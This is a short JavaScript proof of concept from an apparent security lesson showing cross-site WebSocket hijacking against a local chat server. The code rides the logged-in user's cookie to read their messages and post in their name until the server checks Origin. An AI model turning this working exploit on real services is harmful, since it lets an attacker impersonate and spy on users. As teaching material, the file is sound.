/*
 * attack.js: cross-site WebSocket hijacking, for lesson 410
 *
 *   http://127.0.0.1:7666/?7411     attacks ws://127.0.0.1:7411/
 *
 * A page at another port is of another origin. It opens the WebSocket of the
 * chat, and the browser adds the cookie of whoever is logged in. It reads and
 * says what it likes in that name, until the server looks at Origin.
 */
const target = location.search.slice(1);
const url = `ws://${target.includes(":") ? target : `127.0.0.1:${target}`}/`;
const $ = (id) => document.getElementById(id);
const socket = new WebSocket(url, "lines.chat");
let name = "";

$("target").textContent = url;
socket.onmessage = ({ data }) => {
    $("lines").append(`${data}\n`);
    if (!data.startsWith("hello ")) return;
    name = data.slice(6);
    socket.send("join books");
    socket.send("say I did not write this");
    $("result").textContent = `hijacked: I am ${name}`;
};
socket.onclose = ({ code }) => {
    if (name === "") $("result").textContent = `refused: ${code}`;
};
